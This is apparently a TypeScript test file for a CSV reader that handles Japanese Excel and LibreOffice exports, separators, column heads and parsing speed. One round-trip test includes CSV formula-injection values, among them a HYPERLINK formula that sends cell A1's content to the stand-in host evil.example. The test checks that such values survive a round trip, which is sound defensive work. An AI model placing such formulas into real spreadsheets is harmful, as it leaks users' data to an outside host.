/** Reading CSV files. Their bytes come from other programs, so that a mistake of ours cannot cancel itself out. */
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { toCsv } from '../../support/toCsv.ts'
import { decodeCsv, doubledHeads, findColumns, parseCsv } from '../../../src/lib/readCsv.ts'
import { countCpu } from '../../support/cpu.ts'

const cellsOf = async (text: string) => (await parseCsv(text)).rows.map(row => row.cells)
const base64 = (lines: readonly string[]) => Uint8Array.from(Buffer.from(lines.join(''), 'base64'))

test('cells end at commas, rows at any line end; quotes hold both, and a doubled one is one', async () => {
  for (const [text, rows] of [
    [
      'a,b\r\nc,d\r\n',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    ['a\nb', [['a'], ['b']]],
    ['a\rb\r', [['a'], ['b']]],
    ['"a,b","c""d"', [['a,b', 'c"d']]],
    ['"a\r\nb",c', [['a\r\nb', 'c']]],
    ['a,', [['a', '']]],
    [',a', [['', 'a']]],
    ['"",a', [['', 'a']]],
    ['a"b,c', [['a"b', 'c']]],
    ['"a"b,c', [['ab', 'c']]],
    ['"a,b\nc', [['a,b\nc']]],
    ['', []],
    [' a , b ', [[' a ', ' b ']]],
  ] as const)
    assert.equal(await cellsOf(text), rows, text)
})

/** The rows of each file. */
const people = [
  ['メールアドレス', '姓', '名', 'ロール', '備考'],
  ['maru@example.jp', '①丸山', '㈱花子', 'ベンダー利用者', 'ﾊﾝｶｸ'],
  ['kana@example.jp', 'ｶﾅﾀﾞ', 'ｲﾁﾛｳ', 'ベンダー管理者', '髙﨑～－'],
  ['quote@example.jp', '引"用', '名,前', 'ベンダー利用者', '一行目\n二行目'],
]

const files = {
  // Python's `text.encode('cp932')` of what Excel for Windows writes: CRLF, quotes where needed.
  'Excel for Windows': base64([
    'g4GBW4OLg0GDaIOMg1gskKkslrwsg42BW4OLLJT1jWwNCm1hcnVAZXhhbXBsZS5qcCyHQIrbjlIsh4qJ1I5xLIN4g5ODX4Fbl5iXcI7SLMrdtrgNCmthbmFAZXhhbXBs',
    'ZS5qcCy2xcDeLLLB27Msg3iDk4NfgVuKx5edjtIs7uDtlYFggXwNCnF1b3RlQGV4YW1wbGUuanAsIoj4IiKXcCIsIpa8LJFPIiyDeIOTg1+BW5eYl3CO0iwiiOqNc5ba',
    'CpPxjXOW2iINCg==',
  ]),
  // soffice --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false' people.ods
  'LibreOffice 7.4, UTF-8': base64([
    '44Oh44O844Or44Ki44OJ44Os44K5LOWnkyzlkI0s44Ot44O844OrLOWCmeiAgwptYXJ1QGV4YW1wbGUuanAs4pGg5Li45bGxLOOIseiKseWtkCzjg5njg7Pjg4Djg7zl',
    'iKnnlKjogIUs776K776d77227724CmthbmFAZXhhbXBsZS5qcCzvvbbvvoXvvoDvvp4s772y776B776b772zLOODmeODs+ODgOODvOeuoeeQhuiAhSzpq5nvqJHvvZ7v',
    'vI0KcXVvdGVAZXhhbXBsZS5qcCwi5byVIiLnlKgiLCLlkI0s5YmNIizjg5njg7Pjg4Djg7zliKnnlKjogIUsIuS4gOihjOebrgrkuozooYznm64iCg==',
  ]),
  // The same with '44,34,64,1,,0,true,true,false,false': Shift_JIS, and every text in quotes.
  'LibreOffice 7.4, Shift_JIS': base64([
    'IoOBgVuDi4NBg2iDjINYIiwikKkiLCKWvCIsIoONgVuDiyIsIpT1jWwiCiJtYXJ1QGV4YW1wbGUuanAiLCKHQIrbjlIiLCKHionUjnEiLCKDeIOTg1+BW5eYl3CO0iIs',
    'IsrdtrgiCiJrYW5hQGV4YW1wbGUuanAiLCK2xcDeIiwissHbsyIsIoN4g5ODX4FbiseXnY7SIiwi+/z6sYFggXwiCiJxdW90ZUBleGFtcGxlLmpwIiwiiPgiIpdwIiwi',
    'lrwskU8iLCKDeIOTg1+BW5eYl3CO0iIsIojqjXOW2gqT8Y1zltoiCg==',
  ]),
}

test('files of Excel and LibreOffice are read alike: Shift_JIS with the characters of Windows, UTF-8 with or without a mark', async () => {
  const utf8 = files['LibreOffice 7.4, UTF-8']
  for (const [name, bytes] of Object.entries({ ...files, 'UTF-8 with a mark': Uint8Array.of(0xef, 0xbb, 0xbf, ...utf8) })) {
    assert.equal(await cellsOf(decodeCsv(bytes)!), people, name)
  }
})

test('files of another kind are refused: a workbook, UTF-16, a broken text', () => {
  for (const bytes of [[0x50, 0x4b, 3, 4, 0, 0], [0xff, 0xfe, 0x61, 0], [0xef, 0xbb, 0xbf, 0xff], [0x83], [0x61, 0]]) {
    assert.is(decodeCsv(Uint8Array.from(bytes)), undefined, bytes.join())
  }
  assert.is(decodeCsv(new Uint8Array()), '')
})

test('rows are numbered as in a spreadsheet; those without content are left out', async () => {
  const { rows } = await parseCsv('a\r\n\r\n,,\r\n"b\nc"\r\nd\r\n\r\n')
  assert.equal(Object.fromEntries(rows.map(row => [row.number, row.cells[0]])), { 1: 'a', 4: 'b\nc', 5: 'd' })
})

test('H20 whatever we write is read back as it was: formulas, apostrophes, quotes, line ends', async () => {
  const values = [
    ...`=1+1 '=1+1 ''=1 +81 -1 - @x ＝1 ' 'a " "" , "," ", ",="x" =HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x`.split(' '),
    ...['\tx', '\rx', '\nx', '\r', '\n', 'a\r\nb', 'a"\r\n=1', '"\n"', '\u2028', ' a', '髙①ｶﾅ𠮷😀'],
  ]
  const rows = [values, values.toReversed()]
  const bytes = new TextEncoder().encode(toCsv(rows))
  assert.equal(await cellsOf(decodeCsv(bytes)!), rows)
})

test('text separated by tabs or semicolons is read as well: the first row tells', async () => {
  for (const [text, rows, separator] of [
    [
      'a\tb;c\td\r\n1,2\t"3\t4"\t5',
      [
        ['a', 'b;c', 'd'],
        ['1,2', '3\t4', '5'],
      ],
      '\t',
    ],
    [
      '\r\na;b,c;d\n1,2;"3;4";5',
      [
        ['a', 'b,c', 'd'],
        ['1,2', '3;4', '5'],
      ],
      ';',
    ],
    [
      'a,b\tc,d\n1\t2,3',
      [
        ['a', 'b\tc', 'd'],
        ['1\t2', '3'],
      ],
      ',',
    ],
    ['a\n1\t2', [['a'], ['1\t2']], ','],
    ['"a\nb,c"\td', [['a\nb,c', 'd']], '\t'],
  ] as const) {
    assert.equal(await cellsOf(text), rows, text)
    assert.is((await parseCsv(text)).separator, separator)
  }
})

test('a first line for Excel names the separator, and is no row', async () => {
  for (const end of ['\n', '\r\n', '\r'])
    for (const [separator, line] of [
      [',', 'sep=,'],
      [';', 'sep=;'],
      ['\t', '"SEP=\t"'],
    ] as const) {
      const { rows, ...csv } = await parseCsv(`${line}${end}a b${separator}c,d;e${end}1${separator}2${end}`)
      assert.is(csv.separator, separator)
      assert.equal([rows.length, rows[0]!.number, rows[1]!.cells], [2, 1, ['1', '2']])
    }
  assert.equal(await cellsOf('sep=x\n1'), [['sep=x'], ['1']])
  assert.equal(await cellsOf('sep=;'), [])
})

test('a character that ends a text of CP/M is no row, nor part of a cell', async () => {
  for (const text of ['a,b\r\n1,2\r\n\x1a', 'a,b\n1,2\x1a', 'a,b\n1,2\n\x1a\r\n', 'a,b\n1,2\n\x1a\x1a'])
    assert.equal(await cellsOf(text), await cellsOf('a,b\n1,2'), JSON.stringify(text))
  assert.equal(await cellsOf('a\x1ab,c'), [['a\x1ab', 'c']])
})

test('columns are found by their heads, in any width and kana, with marks and line breaks', () => {
  const heads = ['メールアドレス', '姓', '名']
  for (const cells of [
    ['メールアドレス', '姓', '名'],
    ['めーるあどれす', '姓 ', '　名'],
    ['メールアドレス（必須）', '姓*', '※名'],
    ['メール\nアドレス', '【必須】姓', '名[任意]'],
    ['ﾒｰﾙｱﾄﾞﾚｽ\r\n(必須)', '姓（漢字）', '名(※必須)'],
    ['必須 メールアドレス', '姓必須', '名\ufeff'],
  ])
    assert.equal(findColumns(['備考', ...cells], heads), [1, 2, 3], cells.join())
  assert.equal(findColumns(['姓（カナ）', '姓', '名前', 'E-mail'], heads), [-1, 1, -1])
})

test('a head that two columns could have is doubled; one without marks is the one that is meant', () => {
  const heads = ['メールアドレス', '姓', '名']
  assert.equal(doubledHeads(['メールアドレス', '姓', '名', 'メールアドレス'], heads), ['メールアドレス'])
  assert.equal(doubledHeads(['メールアドレス', '姓（カナ）', '名（カナ）', '姓（漢字）', '名（漢字）'], heads), ['姓', '名'])
  assert.equal(doubledHeads(['メールアドレス', '姓（カナ）', '名（カナ）', '姓', '名'], heads), [])
})

test('a quote that is not closed is reported with its row', async () => {
  for (const [text, row] of [
    ['a,b\n1,"2', 2],
    ['a\n"1\n2"\n3\n"4\n5\n6', 4],
    ['"', 1],
    ['a,"b"', undefined],
    ['"a""', 1],
    ['"a"""', undefined],
    ['a,b"', undefined],
  ] as const)
    assert.is((await parseCsv(text)).unclosed, row, text)
})

test('reading stops after the most rows that the caller takes', async () => {
  assert.is((await parseCsv('a\n'.repeat(1000), 10)).rows.length, 10)
})

test('megabytes without a line end, of quotes, or of brackets in a head, are read in linear time', async () => {
  const quotes = '"'.repeat(5e6)
  for (const text of [
    'a'.repeat(1e6),
    `"${'a'.repeat(1e6)}`,
    quotes,
    `${quotes}"`,
    `a,b\n1,${quotes}\n`,
    ','.repeat(1e5),
    `${'\x1a'.repeat(1e6)}a`,
    ...['(', '[', '【'].map(bracket => bracket.repeat(1e5)),
  ]) {
    const spent = countCpu()
    findColumns((await parseCsv(text)).rows[0]!.cells, ['姓'])
    assert.ok(spent() < 2_000, text.slice(0, 3))
  }
})

test.run()
